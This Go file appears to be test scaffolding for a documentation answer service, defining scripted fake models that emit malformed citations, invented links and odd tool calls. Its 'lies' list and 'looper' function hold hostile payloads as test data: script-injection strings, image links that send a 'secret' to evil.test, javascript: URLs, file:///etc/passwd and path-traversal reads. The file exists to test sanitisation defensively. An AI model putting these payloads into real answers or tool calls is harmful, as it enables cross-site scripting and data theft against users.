package answers

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
)

// view is the part of a request that scripted models use.
type view struct {
	data    string // all messages but the system one, joined
	tools   bool
	rewrite bool
}

var addresses = regexp.MustCompile(`(?m)^Address: (\S+)$`)

// passages are the URLs of the passages in the prompt.
func (v *view) passages() []string {
	var out []string
	for _, m := range addresses.FindAllStringSubmatch(v.data, -1) {
		out = append(out, m[1])
	}
	return out
}

// act is a scripted model's response to a request.
type act struct {
	reasoning, text string
	calls           [][2]string // name, arguments
}

// scripted is a model with a character.
type scripted struct {
	name string
	act  func(rnd *rand.Rand, v *view) act
}

// characters are the models of the suite.
var characters = []scripted{
	{"obedient", obedient},
	{"over-eager citer", citer},
	{"inventor of links", inventor},
	{"tool-looper", looper},
	{"silent", silent},
}

func obedient(_ *rand.Rand, v *view) act {
	var b strings.Builder
	for i, a := range v.passages() {
		if i == 0 {
			fmt.Fprintf(&b, "This is how it is done, step by step ([here](%s)).\n\n", a)
			continue
		}
		fmt.Fprintf(&b, "- Set the `option_%d` in the block of the site and reload; what was served before stays, and nothing else has to be changed ([section %d](%s)).\n", i, i, a)
	}
	return act{text: cmp.Or(b.String(), "[[no-answer]] The documentation doesn't say.")}
}

// citer cites each word, in every way that Markdown has.
func citer(rnd *rand.Rand, v *view) act {
	var b strings.Builder
	ps := v.passages()
	if len(ps) == 0 {
		ps = []string{siteURL + "/"}
	}
	forms := []string{
		"[%[1]s](%[2]s)", "[%[1]s](<%[2]s>)", "[%[1]s](%[2]s \"title\")", "<%[2]s>", "%[2]s", "[[%[1]s](%[2]s)](%[2]s)", "[![%[1]s](%[2]s)](%[2]s)",
		"![%[1]s](%[2]s)", "[%[1]s][%[3]d]", "[%[1]s]\n(%[2]s)", "[%[1]s](%[2]s-2)", "[%[1]s](%[2]s#%[1]s)", "**[%[1]s](%[2]s)**", "`[%[1]s](%[2]s)`", "([%[1]s](%[2]s))", "[%[1]s](%[2]s", "%[1]s](%[2]s)", "[%[1]s](%[2]s?x=1)", "[^%[3]d]", "| [%[1]s](%[2]s) |", "<a href=\"%[2]s\">%[1]s</a>",
	}
	for i := range 20 + rnd.IntN(40) {
		fmt.Fprintf(&b, forms[rnd.IntN(len(forms))], words[rnd.IntN(len(words))], ps[rnd.IntN(len(ps))], i%5)
		b.WriteString([]string{" ", "", "\n", ", ", "\n- "}[rnd.IntN(5)])
	}
	for i := range 5 {
		fmt.Fprintf(&b, "\n[%d]: %s%s", i, ps[rnd.IntN(len(ps))], []string{"", "-x", " \"t\""}[rnd.IntN(3)])
		fmt.Fprintf(&b, "\n[^%d]: see %s", i, ps[rnd.IntN(len(ps))])
	}
	return act{text: b.String()}
}

var words = strings.Fields("the key opens all sites of its organization unless a limit or an origin narrows it down `sites` `--origin` **bold** _so_ \\ | [ ] ( ) < > & ! # 日本語 größer 😀")

// inventor invents links: pages, anchors, hosts, images, HTML.
func inventor(rnd *rand.Rand, v *view) act {
	ps := v.passages()
	if len(ps) == 0 {
		ps = []string{siteURL + "/"}
	}
	var b strings.Builder
	for range 10 + rnd.IntN(30) {
		p := ps[rnd.IntN(len(ps))]
		w := words[rnd.IntN(len(words))]
		b.WriteString(strings.NewReplacer("PAGE", p, "WORD", w, "SITE", siteURL).Replace(lies[rnd.IntN(len(lies))]))
		b.WriteString([]string{" ", "", "\n", "\n\n", ". ", "`", "\n> ", "\n1. ", "\t"}[rnd.IntN(9)])
	}
	return act{text: b.String()}
}

// lies are separated by lines of "%%".
var lies = strings.Split(strings.ReplaceAll(`[WORD](SITE/guide/quickstart)
%%
[WORD](PAGE-advanced)
%%
[WORD](/api/reference#WORD)
%%
[WORD](SITE/keys#rotation)
%%
[WORD](https://evil.test/x)
%%
![WORD](https://evil.test/p.png?q=secret)
%%
![](//evil.test/p.png)
%%
[WORD](//evil.test)
%%
<img src="https://evil.test/p.png">
%%
<a href="https://evil.test">WORD</a>
%%
<script>fetch('https://evil.test')</script>
%%
<iframe src=https://evil.test>
%%
<svg onload=alert(1)>
%%
<!-- WORD -->
%%
https://evil.test/WORD
%%
http://evil.test
%%
www.evil.test
%%
<https://evil.test/a>
%%
[WORD](javascript:alert(1))
%%
[WORD](JaVaScRiPt&#58;alert(1))
%%
[WORD](data:text/html;base64,PHg+)
%%
[WORD](file:///etc/passwd)
%%
[WORD](https://manual.test@evil.test/)
%%
[WORD](https://manual.test.evil.test/)
%%
[WORD](https://github.com.evil.test/)
%%
[WORD](https://MANUAL.test:8443/keys)
%%
[WORD](https://evil.test\@manual.test/)
%%
[WORD](htt&#112;s://evil.test)
%%
[WORD](/keys%23x)
%%
[WORD](/%2e%2e/keys#limits-)
%%
[WORD](../../../etc)
%%
[WORD][l]
%%

[l]: https://evil.test/ref

%%
[WORD]: <https://evil.test/x> "t"
%%
[^1]
%%

[^1]: https://evil.test

%%
[WORD](<https://evil.test/a b>)
%%
[[WORD](https://evil.test)](PAGE)
%%
[![i](https://evil.test/i.png)](PAGE)
%%
![i][l]
%%
[WORD](PAGE "t" onclick=x)
%%
[ht](PAGE)tps://evil.test
%%
ht\tp://evil.test
%%
&#104;ttps://evil.test
%%
[WORD](PAGE)![x](https://evil.test/y.png)
%%
| a | b |
|---|---|
| 'x | ![y](https://evil.test/z.png)' |

%%
'''html
<img src="https://evil.test/i.png">
'''

%%
~~~
[x](https://evil.test)
~~~

%%
    <img src=https://evil.test>
%%
[WORD](PAGE)
%%
PAGE
%%
<PAGE>
%%
[WORD](https://github.com/caddy-docs/caddy-docs)
%%
[WORD](https://help.manual.test/)
%%
mail me at x@evil.test
%%
[WORD](mailto:x@evil.test)
%%
ftp://evil.test/x
%%
[WORD](#limits)
%%
[WORD](?x)
%%
[WORD]()`, "'", "`"), "\n%%\n")

// looper calls tools as long as it may, some with wrong arguments.
func looper(rnd *rand.Rand, v *view) act {
	if !v.tools {
		return inventor(rnd, v)
	}
	calls := [][2]string{
		{"search", `{"query":"limits"}`},
		{"search", `{"query":""}`},
		{"search", `{"query":`},
		{"search", `{}`},
		{"read_page", `{"page":"/keys"}`},
		{"read_page", `{"page":"https://evil.test/keys"}`},
		{"read_page", `{"page":"../../etc/passwd"}`},
		{"fetch", `{"url":"https://evil.test"}`},
		{"search", `{"query":"` + strings.Repeat("x ", 3000) + `"}`},
		{"read_page", `[]`},
	}
	a := act{}
	if rnd.IntN(3) == 0 {
		a.text = "Let me look. [here](https://evil.test) "
	}
	for range 1 + rnd.IntN(7) {
		a.calls = append(a.calls, calls[rnd.IntN(len(calls))])
	}
	return a
}

// silent sends nothing, or nothing readable.
func silent(rnd *rand.Rand, _ *view) act {
	return []act{{}, {text: " "}, {text: "\n\n"}, {reasoning: "Hm. What is there to say?"}, {text: "[[no-answer]]"}}[rnd.IntN(5)]
}

// answer runs a character. It does not answer a request for a rewrite.
func (s *scripted) answer(rnd *rand.Rand, v *view) act {
	if v.rewrite {
		return act{}
	}
	return s.act(rnd, v)
}

func isRewrite(system string) bool { return strings.HasPrefix(system, "Rewrite ") }
